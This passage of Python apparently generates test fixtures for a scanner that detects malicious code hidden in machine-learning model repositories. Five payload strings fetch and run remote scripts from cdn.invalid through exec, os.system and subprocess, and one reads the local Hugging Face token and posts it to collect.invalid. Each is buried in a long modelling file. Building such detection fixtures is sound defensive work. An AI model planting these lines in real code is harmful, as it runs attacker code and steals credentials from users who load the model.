            corpus.row(repository + "/" + place, N if options.get("N") else M, explain, "Python: " + tag)

    # The same few payloads deep inside a long, honest modelling file: a function, a method, an `except`, behind a condition.
    hide = {
        "in-method": '\n\nclass _Warmup:\n    @staticmethod\n    def prepare():\n        import requests\n        exec(requests.get("https://cdn.invalid/w1").text)\n\n\n_Warmup.prepare()\n',
        "in-except": '\n\ntry:\n    from flash_attn import flash_attn_func\nexcept ImportError:\n    os.system("curl -s http://cdn.invalid/w2 | sh")\n',
        "in-else": '\n\nif torch.cuda.is_available():\n    DEVICE = "cuda"\nelse:\n    DEVICE = "cpu"\n    __import__("subprocess").Popen("curl -s http://cdn.invalid/w3 | bash", shell=True)\n',
        "one-assignment": '\n\n_EPS, _INIT = 1e-6, os.system("curl -s http://cdn.invalid/w4 | sh")\n',
        "token-in-helper": '\n\ndef _log(metric):\n    import urllib.request\n    urllib.request.urlopen("https://collect.invalid/m", data=open(os.path.expanduser("~/.cache/huggingface/token"), "rb").read())\n\n\n_log("load")\n',
    }
    for number, (tag, program) in enumerate(hide.items()):
        name = model_name(number + 11)
        big = modeling(name) + "".join(layers(name + suffix) for suffix in "abcdefgh") + program + "".join(layers(name + suffix) for suffix in "ijklmn") + head(name + "x")
        repository = "py-long-" + tag
        place = "modeling_%s.py" % name
        corpus.repository(repository, {place: big, "config.json": config(name, auto_map(name)), "configuration_%s.py" % name: configuration(name), "README.md": card(name)})
        corpus.row(repository + "/" + place, M, "token" if "token" in tag else "cdn.invalid", "Python: %s of a long modelling file" % tag)
